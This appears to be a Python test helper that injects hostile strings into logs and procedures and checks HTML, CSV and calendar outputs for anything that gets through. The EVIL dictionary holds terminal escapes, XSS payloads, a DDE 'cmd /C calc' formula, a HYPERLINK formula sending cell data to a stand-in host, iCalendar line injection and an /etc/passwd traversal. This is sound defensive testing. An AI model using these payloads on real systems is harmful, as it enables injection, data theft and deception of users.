"""Text that means harm, where it may stand, and what each face must never let through."""

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import icalendar

from tests.hostile.seeds import GOLDEN
from tests.procedure.conftest import SMALL

EVIL = {
    "escapes": "\x1b[2J\x1b[HALL SAFE\x1b]0;mine\x07\x1b]8;;http://x\x07\x1b[8mhidden",
    "other controls": "off\b\b\bon\x00\x9b2J\x85\x7fNUL",
    "directions": "\u202eDAED\u2066 is\u2069 battery\u200f\u061c",
    "invisible": "A\u00adB\u200bC\ufeffD\U000e0041\u2028E\u2029F",
    "a formula": '=HYPERLINK("http://x?"&A1,"ALL SAFE")',
    "another": "@SUM(1+1)*cmd|' /C calc'!A0",
    "signs": "+1-2",
    "an option": "--everything -rf",
    "lines": "one\r\nATTENDEE:mailto:x@x\r\nEND:VEVENT\nsecond\ttab",
    "markup": "<script src=x>alert(1)</script><img src=x onerror=a()>\"' onclick='x' <!-- ]]> &lt;b> {job}",
    "a path": "../../../etc/passwd/..\\..\\con",
    "no letters": "\ud800\udcff",
}
SHOWN = {name: text for name, text in EVIL.items() if text.isprintable()}
"""What a procedure may hold: the rest is refused with its place."""
_FREE = (
    "vehicle", "mechanic", "title", "revision", "text", "what", "running", "because", "reason", "line", "by",
)  # fmt: skip
"""Fields of events that hold whatever was said or written."""
_ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "a", "header", "h1", "h2", "h3", "p", "nav", "ul",
    "li", "main", "section", "div", "table", "caption", "thead", "tbody", "tr", "th", "td", "footer",
    "dl", "dt", "dd", "b", "span", "figure", "figcaption", "details", "summary", "svg", "g", "rect",
    "line", "path", "text", "circle", "polyline", "polygon", "desc", "br", "strong", "em", "ol", "pre",
    "code", "small",
}  # fmt: skip


def write_evil_log(logs: Path, text: str, name: str, lines: int | None = None) -> str:
    """A finished job, or the first lines of one, in which this text stands wherever words may stand."""
    written = []
    for line in (GOLDEN / "sump-reseal.jsonl").read_text().splitlines()[:lines]:
        fields: dict[str, Any] = json.loads(line)
        for key in _FREE:
            if isinstance(fields.get(key), str):
                fields[key] = text
        if "text" in fields.get("arguments", {}):
            fields["arguments"]["text"] = text
        if "job" in fields:
            fields["job"] = name
        written.append(json.dumps(fields))
    (logs / f"{name}.jsonl").write_text("\n".join(written) + "\n")
    return name


def evil_procedure(text: str) -> str:
    """The small procedure in which this text stands wherever words may stand."""
    quoted = json.dumps(text, ensure_ascii=False)
    changed = SMALL
    for words in (
        "Cover off and on",
        "an invented engine",
        "Unplug.",
        "Cover off.",
        "Look inside.",
        "Wipe.",
        "invented",
    ):
        told = quoted if not words.endswith(".") else json.dumps(f"{words} {text}", ensure_ascii=False)
        changed = changed.replace(f": {words}", f": {told}").replace(f"[{words}]", f"[{told}]")
    for name in ("ring", "paste", "cover", "plug", "cover bolts", "stroke"):
        changed = changed.replace(f"name: {name},", f"name: {quoted},").replace(
            f"what: {name},", f"what: {quoted},"
        )
    return changed


def obeyed_by_a_terminal(shown: str) -> set[str]:
    """Characters that a terminal would obey, or that show nothing, but for those that part lines."""
    return {c for c in shown if not (c.isprintable() or c in "\n\t\u200c\u200d")}


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.wrong += [tag] if tag not in _ALLOWED_TAGS else []
        for name, value in attrs:
            if name.startswith("on") or (
                name in ("href", "src") and not (value or "").startswith(("#", "data:"))
            ):
                self.wrong.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"a comment: {data}")


def harmful_in_html(page: str) -> list[str]:
    """Tags, attributes, comments and characters that text made, and the program does not write."""
    parser = _Page()
    parser.feed(page)
    return [*parser.wrong, *(repr(c) for c in set(page) if not c.isprintable() and c not in "\n\t\u00a0")]


def harmful_in_csv(table: str) -> list[str]:
    """Cells that a spreadsheet would work out, and characters that it would not show."""
    cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
    formulas = [c for c in cells if c.strip()[:1] in ("=", "+", "-", "@") and not _a_number(c)]
    return [*formulas, *(c for c in cells if not c.isprintable())]


def _a_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def harmful_in_calendar(data: bytes) -> list[str]:
    """Properties and parts that the program does not write, and characters that would not be shown."""
    known = {"UID", "DTSTAMP", "DTSTART", "SUMMARY", "DESCRIPTION", "PRIORITY", "TRANSP"}
    known |= {"ACTION", "TRIGGER", "REPEAT", "DURATION", "PRODID", "VERSION"}
    found = []
    for part in icalendar.Calendar.from_ical(data).walk():
        found += [] if part.name in ("VCALENDAR", "VEVENT", "VALARM") else [str(part.name)]
        found += [name for name in part if name not in known]
    return [*found, *(repr(c) for c in set(data.decode()) if not c.isprintable() and c not in "\r\n")]
